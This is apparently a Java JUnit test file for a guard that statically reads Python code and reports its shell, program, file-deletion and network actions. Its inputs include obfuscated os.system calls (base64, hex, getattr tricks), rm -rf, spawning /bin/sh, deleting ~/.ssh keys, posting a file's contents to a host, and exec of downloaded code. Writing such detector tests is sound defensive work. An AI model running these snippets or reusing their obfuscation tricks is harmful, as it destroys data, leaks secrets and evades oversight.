package dev.belay.guard.code;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class PythonTest {
  private static List<String> actions(String text) {
    return CodeActions.of("python3", text);
  }

  @Test
  void shellTextsAreFoundUnderEveryName() {
    assertThat(actions("import os; os.system('id')")).containsExactly("shell id");
    assertThat(actions("import os as o; o.popen('id')")).containsExactly("shell id");
    assertThat(actions("from os import system as s\ns('id')")).containsExactly("shell id");
    assertThat(actions("from os import *\nsystem('id')")).containsExactly("shell id");
    assertThat(actions("__import__('os').system('id')")).containsExactly("shell id");
    assertThat(actions("getattr(__import__('os'), 'sys' + 'tem')('id')"))
        .containsExactly("shell id");
    assertThat(actions("import os; os.__dict__['system']('id')")).containsExactly("shell id");
    assertThat(actions("import importlib; importlib.import_module('os').system('id')"))
        .containsExactly("shell id");
    assertThat(actions("import ctypes; ctypes.CDLL(None).system(b'id')"))
        .containsExactly("shell id");
    assertThat(actions("x = 1 if y else 2; 'a' in z and os.system('id')"))
        .containsExactly("shell id");
  }

  @Test
  void textsArePutTogether() {
    assertThat(actions("import os; os.system('i' + 'd')")).containsExactly("shell id");
    assertThat(actions("import os; os.system(''.join(map(chr, [105, 100])))"))
        .containsExactly("shell id");
    assertThat(actions("import os; os.system(''.join([chr(c) for c in [105, 100]]))"))
        .containsExactly("shell id");
    assertThat(actions("import os; os.system('di'[::-1])")).containsExactly("shell id");
    assertThat(actions("c = bytes.fromhex('6964').decode(); import os; os.system(c)"))
        .containsExactly("shell id");
    assertThat(actions("import os, base64; os.system(base64.b64decode('aWQ=').decode())"))
        .containsExactly("shell id");
    assertThat(actions("a = 'id'; import os; os.system(f'{a} -{1}')"))
        .containsExactly("shell id -1");
    assertThat(actions("import os; os.system('%s -%d' % ('id', 3))"))
        .containsExactly("shell id -3");
    assertThat(actions("import os; os.system('{} -{n}'.format('id', n=3))"))
        .containsExactly("shell id -3");
    assertThat(actions("import os; c = 'i'; c += 'd'; os.system(c)")).containsExactly("shell id");
    assertThat(actions("import os; os.system('''i'''\\\n'd')")).containsExactly("shell id");
    assertThat(actions("import os; os.system('\\x69\\144')")).containsExactly("shell id");
  }

  @Test
  void programsHaveTheirArguments() {
    assertThat(actions("import subprocess; subprocess.run(['rm', '-rf', p], cwd='/y')"))
        .containsExactly("program [rm, -rf, p] in /y");
    assertThat(actions("from subprocess import *; Popen('a | b', shell=True)"))
        .containsExactly("shell a | b");
    assertThat(actions("import os; os.execvp('rm', ['rm', '-r', '/x'])"))
        .containsExactly("program [rm, -r, /x]");
    assertThat(actions("import os; os.execl('/bin/sh', 'sh', '-c', 'id')"))
        .containsExactly("program [/bin/sh, -c, id]");
    assertThat(actions("import pty; pty.spawn('/bin/sh')")).containsExactly("program [/bin/sh]");
  }

  @Test
  void filesAreTouched() {
    assertThat(actions("import shutil, os; shutil.rmtree('/x'); os.remove('/y')"))
        .containsExactly("delete /x and below", "delete /y");
    assertThat(actions("from pathlib import Path; (Path.home() / '.ssh' / 'id').unlink()"))
        .containsExactly("delete $HOME/.ssh/id");
    assertThat(actions("with open('/x', 'w') as f:\n    f.write('a')\n    f.write('b')"))
        .containsExactly("overwrite /x with ab");
    assertThat(actions("import os; os.rename('/a', '/b'); os.chmod('/c', 0o777)"))
        .containsExactly("move /a to /b", "attributes /c");
    assertThat(actions("import os; os.remove(os.path.join(os.path.expanduser('~'), '.x'))"))
        .containsExactly("delete $HOME/.x");
  }

  @Test
  void loopsAndFunctionsAreFollowed() {
    assertThat(actions("import os\nfor d in ['a', 'b']:\n  os.remove(d)\nos.remove('c')"))
        .containsExactly("delete a", "delete b", "delete c");
    assertThat(
            actions(
                "import os\ndef go(p):\n    os.remove(p)\n\nif __name__ == '__main__':\n"
                    + "    go('/x')\n"))
        .containsExactly("delete /x");
    assertThat(actions("import os\ndef never():\n    os.remove('/x')\n")).isEmpty();
    assertThat(actions("[os.remove(f) for f in ('a', 'b')]"))
        .containsExactly("delete a", "delete b");
  }

  @Test
  void dataIsFollowedToTheNetwork() {
    assertThat(
            actions(
                "import requests; d = open('/x').read();"
                    + " requests.post('http://h/', data={'d': d})"))
        .containsExactly("read /x", "POST http://h/ sends from (cat /x)");
    assertThat(
            actions(
                "from urllib.request import urlopen; urlopen('http://h/?' + open('/x').read())"))
        .containsExactly("read /x", "GET http://h/?open('/x').read() from (cat /x)");
    assertThat(actions("import socket; s = socket.socket(); s.connect(('h', 44))"))
        .containsExactly("CONNECT h:44");
    assertThat(actions("from urllib.request import urlopen; exec(urlopen('http://h/x').read())"))
        .contains("GET http://h/x")
        .anySatisfy(
            line -> assertThat(line).startsWith("run python").endsWith("(curl http://h/x)"));
  }

  @Test
  void whatIsOnlySaidDoesNothing() {
    assertThat(
            actions(
                "\"\"\"os.system('id')\"\"\"\nprint('rm -rf /')  # os.system('id')\n"
                    + "x = \"shutil.rmtree('/')\"\nlogging.info('os.remove(%s)', x)\n"))
        .isEmpty();
  }

  @Test
  void whatCannotBeUnderstoodIsSaid() {
    assertThat(CodeActions.read("python", "import os; getattr(os, x)('id')").followed()).isFalse();
    assertThat(CodeActions.read("python", "getattr(thing, x)('id')").followed()).isTrue();
    assertThat(CodeActions.read("python", "exec(x)").followed()).isTrue();
    assertThat(actions("exec(x)")).containsExactly("run python x");
  }

  @Test
  void statementsForDatabasesAreRun() {
    assertThat(actions("db.execute('DROP TABLE x')")).containsExactly("run sql DROP TABLE x");
    assertThat(actions("executor.execute('drop')")).isEmpty();
  }
}
